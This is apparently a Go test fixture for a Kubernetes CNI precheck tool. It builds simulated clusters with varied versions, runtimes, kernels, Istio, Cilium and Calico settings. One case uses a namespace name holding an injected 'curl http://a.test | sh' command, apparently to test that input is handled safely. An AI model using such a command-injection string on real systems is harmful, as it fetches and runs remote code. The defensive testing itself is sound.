// SPDX-License-Identifier: Apache-2.0

package precheck

import (
	"fmt"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
)

// good is a cluster on which nothing stands in the way.
func good() *Cluster {
	return &Cluster{
		Version: "v1.36.2", Nodes: []corev1.Node{node("n1", "v1.36.2", "containerd://2.1.4", "6.12.0")}, DaemonSets: []appsv1.DaemonSet{},
		Injectors: []corev1.ConfigMap{injector("default", `{"pilot":{"cni":{"enabled":true,"provider":"default"}}}`)},
		Namespace: namespace("privileged"),
	}
}

func node(name, kubelet, runtime, kernel string) corev1.Node {
	return corev1.Node{
		ObjectMeta: metav1.ObjectMeta{Name: name, Labels: map[string]string{}},
		Status:     corev1.NodeStatus{NodeInfo: corev1.NodeSystemInfo{OperatingSystem: "linux", KubeletVersion: kubelet, ContainerRuntimeVersion: runtime, KernelVersion: kernel}},
	}
}

func injector(revision, values string) corev1.ConfigMap {
	return corev1.ConfigMap{
		ObjectMeta: metav1.ObjectMeta{Namespace: "istio-system", Name: "istio-sidecar-injector", Labels: map[string]string{"istio.io/rev": revision}},
		Data:       map[string]string{"values": values, "config": ""},
	}
}

func namespace(level string) *corev1.Namespace {
	n := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "capture-cni", Labels: map[string]string{}}}
	if level != "" {
		n.Labels[podSecurity] = level
	}
	return n
}

// daemonSet returns one of any name that runs an image, next to what all nodes run.
func daemonSet(image string, command ...string) appsv1.DaemonSet {
	return appsv1.DaemonSet{
		ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "any"},
		Status:     appsv1.DaemonSetStatus{CurrentNumberScheduled: 1},
		Spec: appsv1.DaemonSetSpec{Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{
			Containers: []corev1.Container{{Image: "registry.k8s.io/pause:3.10"}, {Image: image, Command: command}},
			Volumes:    []corev1.Volume{{VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/etc/cni/net.d"}}}},
		}}},
	}
}

// installed has the chart's DaemonSet, by Helm or by a manifest.
func installed(namespace, release, mode string) func(*Cluster) {
	return func(c *Cluster) {
		c.Installed = &Installed{Namespace: namespace, Release: release, Version: "0.1.0", Values: map[string]string{"mode": mode, "netconf.backend": "nftables"}}
	}
}

// special adds a node on which no agent runs.
func special(change func(*corev1.Node)) func(*Cluster) {
	return func(c *Cluster) {
		node := node("special", "v1.36.2", "", "")
		change(&node)
		c.Nodes = append(c.Nodes, node)
	}
}

func configMap(data ...string) *corev1.ConfigMap {
	c := &corev1.ConfigMap{Data: map[string]string{}}
	for i := 0; i < len(data); i += 2 {
		c.Data[data[i]] = data[i+1]
	}
	return c
}

// changes are what a test does to a good cluster.
var changes = []struct {
	name   string
	change func(*Cluster)
}{
	{"nothing", func(*Cluster) {}},
	{"Kubernetes before 1.25", func(c *Cluster) { c.Version = "v1.24.17" }},
	{"Kubernetes before 1.30", func(c *Cluster) { c.Version = "v1.29.3+k3s1" }},
	{"Kubernetes 1.25", func(c *Cluster) { c.Version = "v1.25.0" }},
	{"Kubernetes 1.30", func(c *Cluster) { c.Version = "v1.30.0" }},
	{"no version", func(c *Cluster) { c.Version = "" }},
	{"k3s", kubelet("v1.33.1+k3s1")},
	{"k0s", kubelet("v1.33.1+k0s.0")},
	{"k3d", func(c *Cluster) {
		kubelet("v1.33.1+k3s1")(c)
		c.Nodes[0].Status.NodeInfo.OSImage = "K3s v1.33.1+k3s1"
	}},
	{"RKE2", kubelet("v1.33.1+rke2r1")},
	{"GKE", kubelet("v1.33.1-gke.1386000")},
	{"MicroK8s", func(c *Cluster) { c.Nodes[0].Labels["microk8s.io/cluster"] = "true" }},
	{"minikube", func(c *Cluster) { c.Nodes[0].Labels["minikube.k8s.io/name"] = "minikube" }},
	{"OpenShift", openshift},
	{"OpenShift, provider multus", func(c *Cluster) { openshift(c); inject(`{"pilot":{"cni":{"enabled":true,"provider":"multus"}}}`)(c) }},
	{"two platforms", func(c *Cluster) {
		c.Nodes = append(c.Nodes, node("n2", "v1.36.2+k3s1", "containerd://2.1.4", "6.1.0"))
	}},
	{"two runtimes", func(c *Cluster) { c.Nodes = append(c.Nodes, node("n2", "v1.36.2", "cri-o://1.33.1", "6.1.0")) }},
	{"no node that can be read", func(c *Cluster) { c.Nodes = nil }},
	{"a node of Windows", func(c *Cluster) {
		c.Nodes = append(c.Nodes, corev1.Node{Status: corev1.NodeStatus{NodeInfo: corev1.NodeSystemInfo{OperatingSystem: "windows", KernelVersion: "10.0"}}})
	}},
	{"a node of Windows, by its label", special(func(n *corev1.Node) {
		n.Status.NodeInfo = corev1.NodeSystemInfo{}
		n.Labels["kubernetes.io/os"] = "windows"
	})},
	{"a node of Fargate", special(func(n *corev1.Node) { n.Labels["eks.amazonaws.com/compute-type"] = "fargate" })},
	{"a virtual node", special(func(n *corev1.Node) { n.Labels["type"] = "virtual-kubelet" })},
	{"a virtual node, by its taint", special(func(n *corev1.Node) { n.Spec.Taints = []corev1.Taint{{Key: "virtual-kubelet.io/provider"}} })},
	{"a node that has not reported", special(func(n *corev1.Node) {
		n.Status.NodeInfo = corev1.NodeSystemInfo{ContainerRuntimeVersion: "containerd://2.1.4"}
	})},
	{"Linux 4.18", func(c *Cluster) { c.Nodes[0].Status.NodeInfo.KernelVersion = "4.18.0-553.el8" }},
	{"Linux 4.18 on one of two nodes", func(c *Cluster) {
		c.Nodes = append(c.Nodes, node("n2", "v1.33.1", "containerd://2.1.4", "4.18.0-553.el8"))
	}},
	{"Linux 5.1", func(c *Cluster) { c.Nodes[0].Status.NodeInfo.KernelVersion = "5.1.21" }},
	{"Linux 5.2", func(c *Cluster) { c.Nodes[0].Status.NodeInfo.KernelVersion = "5.2.0" }},
	{"Linux 5.10, which is newer than 5.2", func(c *Cluster) { c.Nodes[0].Status.NodeInfo.KernelVersion = "5.10.0-30-amd64" }},
	{"docker", containerRuntime("docker://27.0.1")},
	{"docker on five nodes", func(c *Cluster) {
		for i := range 4 {
			c.Nodes = append(c.Nodes, node(fmt.Sprint("n", 2+i), "v1.36.2", "", "6.12.0"))
		}
		containerRuntime("docker://27.0.1")(c)
	}},
	{"docker on one node, containerd 1.4 on another", func(c *Cluster) {
		c.Nodes = append(c.Nodes, node("n2", "v1.36.2", "containerd://1.4.13", "6.12.0"))
		c.Nodes[0].Status.NodeInfo.ContainerRuntimeVersion = "docker://27.0.1"
	}},
	{"docker on Linux 4.18", func(c *Cluster) {
		containerRuntime("docker://27.0.1")(c)
		c.Nodes[0].Status.NodeInfo.KernelVersion = "4.18.0-553.el8"
	}},
	{"docker on a kernel that is not known", func(c *Cluster) {
		containerRuntime("docker://27.0.1")(c)
		c.Nodes[0].Status.NodeInfo.KernelVersion = ""
	}},
	{"containerd 1.4", containerRuntime("containerd://1.4.13")},
	{"containerd 1.5", containerRuntime("containerd://1.5.0")},
	{"CRI-O 1.28", containerRuntime("cri-o://1.28.2")},
	{"CRI-O 1.29", containerRuntime("cri-o://1.29.0")},
	{"istio-init", inject(`{"pilot":{"cni":{"enabled":false}}}`)},
	{"istio-init, with a provider", inject(`{"pilot":{"cni":{"enabled":false,"provider":"multus"}}}`)},
	{"istio-init, by the newer of both keys", inject(`{"pilot":{"cni":{"enabled":false}},"istio_cni":{"enabled":true,"chained":false}}`)},
	{"no provider", inject(`{"pilot":{"cni":{"enabled":true}}}`)},
	{"provider multus", inject(`{"pilot":{"cni":{"enabled":true,"provider":"multus"}}}`)},
	{"Istio 1.23, chained", inject(`{"istio_cni":{"enabled":true,"chained":true}}`)},
	{"Istio 1.23, not chained", inject(`{"istio_cni":{"enabled":true,"chained":false}}`)},
	{"Istio 1.23, disabled", inject(`{"istio_cni":{"enabled":false}}`)},
	{"no Istio", func(c *Cluster) { c.Injectors = nil }},
	{"a broken injector", inject("{")},
	{"two providers", revision(`{"pilot":{"cni":{"enabled":true,"provider":"multus"}}}`)},
	{"two providers, one of them disabled", revision(`{"pilot":{"cni":{"enabled":false,"provider":"multus"}}}`)},
	{"two revisions", revision(`{"pilot":{"cni":{"enabled":true}}}`)},
	{"istio-cni", with("docker.io/istio/install-cni:1.28.0", "example.com/other")},
	{"istio-cni of OpenShift", with("registry.redhat.io/openshift-service-mesh/istio-cni-rhel9@sha256:00")},
	{"istio-cni of a mirror with a port", with("mirror:5000/istio/install-cni")},
	{"istio-cni that mounts nothing of the node", func(c *Cluster) {
		with("istio/install-cni")(c)
		c.DaemonSets[0].Spec.Template.Spec.Volumes = nil
	}},
	{"istio-cni and ztunnel without pods", func(c *Cluster) {
		with("tenant/install-cni", "tenant/ztunnel")(c)
		for i := range c.DaemonSets {
			c.DaemonSets[i].Status.CurrentNumberScheduled = 0
		}
	}},
	{"istio-cni and a problem", func(c *Cluster) { with("istio/install-cni")(c); c.Version = "v1.24.0" }},
	{"istio-cni, ambient", func(c *Cluster) {
		c.IstioCNI = configMap("AMBIENT_ENABLED", "true")
		with("istio/install-cni:1.28.0-distroless", "istio/ztunnel:1.28.0-distroless")(c)
	}},
	{"istio-cni, not ambient", func(c *Cluster) {
		c.IstioCNI = configMap("AMBIENT_ENABLED", "false")
		with("istio/install-cni:1.28.0-distroless")(c)
	}},
	{"ztunnel between others", with("a/first", "gcr.io/istio-release/ztunnel:1.28", "a/last")},
	{"linkerd-cni", with("cr.l5d.io/linkerd/cni-plugin:v1.6.2", "a/other")},
	{"linkerd-cni of Buoyant, no Istio", func(c *Cluster) { with("docker.io/buoyantio/cni-plugin:v1")(c); c.Injectors = nil }},
	{"kuma-cni", with("docker.io/kumahq/kuma-cni:2.11.0")},
	{"consul-cni", func(c *Cluster) {
		c.DaemonSets = append(c.DaemonSets, daemonSet("hashicorp/consul-k8s-control-plane:1.8.0", "/bin/sh", "-ec", "consul-k8s-control-plane install-cni -log-level=info"))
	}},
	{"another program of Consul", with("hashicorp/consul-k8s-control-plane:1.8.0")},
	{"DaemonSets unknown", func(c *Cluster) { c.DaemonSets = nil }},
	{"Cilium, exclusive, containerd 2.0", func(c *Cluster) { withCilium("cni-exclusive", "true")(c); containerRuntime("containerd://2.0.7")(c) }},
	{"Cilium, exclusive, containerd 2.1", withCilium("cni-exclusive", "true")},
	{"Cilium, exclusive, CRI-O 1.32", func(c *Cluster) { withCilium("cni-exclusive", "true")(c); containerRuntime("cri-o://1.32.9")(c) }},
	{"Cilium, exclusive, CRI-O 1.33", func(c *Cluster) { withCilium("cni-exclusive", "true")(c); containerRuntime("cri-o://1.33.0")(c) }},
	{"Cilium, exclusive, one node of two without drop-ins", func(c *Cluster) {
		withCilium("cni-exclusive", "true")(c)
		c.Nodes = append(c.Nodes, node("n2", "v1.36.2", "containerd://1.7.28", "6.1.0"))
	}},
	{"Cilium of AKS, exclusive", func(c *Cluster) {
		withCilium("cni-exclusive", "true")(c)
		containerRuntime("containerd://1.7.28")(c)
		with("mcr.microsoft.com/containernetworking/cilium/cilium:v1.17.0")(c)
	}},
	{"Cilium of GKE, at sockets", func(c *Cluster) { withCilium("bpf-lb-sock", "true")(c); with("gke.gcr.io/cilium/cilium:v1.15")(c) }},
	{"Cilium, exclusive, no node that can be read", func(c *Cluster) { withCilium("cni-exclusive", "true")(c); c.Nodes = nil }},
	{"Cilium, not exclusive", func(c *Cluster) { withCilium("cni-exclusive", "false")(c); containerRuntime("containerd://2.0.7")(c) }},
	{"Cilium instead of kube-proxy", withCilium("kube-proxy-replacement", "true")},
	{"Cilium instead of kube-proxy, strictly", withCilium("kube-proxy-replacement", "strict")},
	{"Cilium instead of kube-proxy in part", withCilium("kube-proxy-replacement", "partial")},
	{"Cilium at sockets", withCilium("bpf-lb-sock", "true")},
	{"Cilium at the node's sockets", withCilium("bpf-lb-sock", "true", "bpf-lb-sock-hostns-only", "true")},
	{"Calico", func(c *Cluster) { c.Felix = &Felix{} }},
	{"Calico, eBPF", func(c *Cluster) { c.Felix = &Felix{}; c.Felix.Spec.BPFEnabled = true }},
	{"Calico, eBPF, not at sockets", func(c *Cluster) {
		c.Felix = &Felix{}
		c.Felix.Spec.BPFEnabled, c.Felix.Spec.BPFConnectTimeLoadBalancing = true, "Disabled"
	}},
	{"no namespace", func(c *Cluster) { c.Namespace = nil }},
	{"no namespace, and Kubernetes before 1.25", func(c *Cluster) { c.Namespace, c.Version = nil, "v1.24.17" }},
	{"no label", func(c *Cluster) { c.Namespace = namespace("") }},
	{"restricted", func(c *Cluster) { c.Namespace = namespace("restricted") }},
	{"no namespace that can be read", func(c *Cluster) { c.Namespace = nil; c.Unknown = []error{fmt.Errorf("reading namespaces: forbidden")} }},
	{"installed", installed("capture-cni", "mesh", "auto")},
	{"installed without Helm", installed("capture-cni", "", "auto")},
	{"installed elsewhere", installed("other", "mesh", "auto")},
	{"installed in a namespace that is no word", installed("o'ther; curl http://a.test | sh", "mesh", "auto")},
	{"installed without Helm, and no label", func(c *Cluster) {
		installed("capture-cni", "", "auto")(c)
		c.Namespace = namespace("")
	}},
	{"installed, with a pinned image", func(c *Cluster) {
		installed("capture-cni", "mesh", "auto")(c)
		c.Installed.Pinned = []string{"ghcr.io/capture-cni/capture-cni:v0.1.0"}
	}},
	{"installed, in another mode than istiod's", func(c *Cluster) {
		installed("capture-cni", "capture-cni", "insert")(c)
		inject(`{"pilot":{"cni":{"enabled":true,"provider":"multus"}}}`)(c)
	}},
	{"installed, in istiod's mode", func(c *Cluster) {
		installed("capture-cni", "capture-cni", "multus")(c)
		inject(`{"pilot":{"cni":{"enabled":true,"provider":"multus"}}}`)(c)
	}},
	{"no permission", func(c *Cluster) { c.Unknown = []error{fmt.Errorf("reading nodes: forbidden")} }},
}

func openshift(c *Cluster) { c.Nodes[0].Labels["node.openshift.io/os_id"] = "rhel" }

func kubelet(version string) func(*Cluster) {
	return func(c *Cluster) { c.Nodes[0].Status.NodeInfo.KubeletVersion = version }
}

// containerRuntime has all nodes run it.
func containerRuntime(version string) func(*Cluster) {
	return func(c *Cluster) {
		for i := range c.Nodes {
			c.Nodes[i].Status.NodeInfo.ContainerRuntimeVersion = version
		}
	}
}

// inject replaces the values of the only revision, revision adds one.
func inject(values string) func(*Cluster) {
	return func(c *Cluster) { c.Injectors[0].Data["values"] = values }
}

func revision(values string) func(*Cluster) {
	return func(c *Cluster) { c.Injectors = append(c.Injectors, injector("canary", values)) }
}

func with(images ...string) func(*Cluster) {
	return func(c *Cluster) {
		for _, image := range images {
			c.DaemonSets = append(c.DaemonSets, daemonSet(image))
		}
	}
}

func withCilium(data ...string) func(*Cluster) {
	return func(c *Cluster) { c.Cilium = configMap(data...) }
}
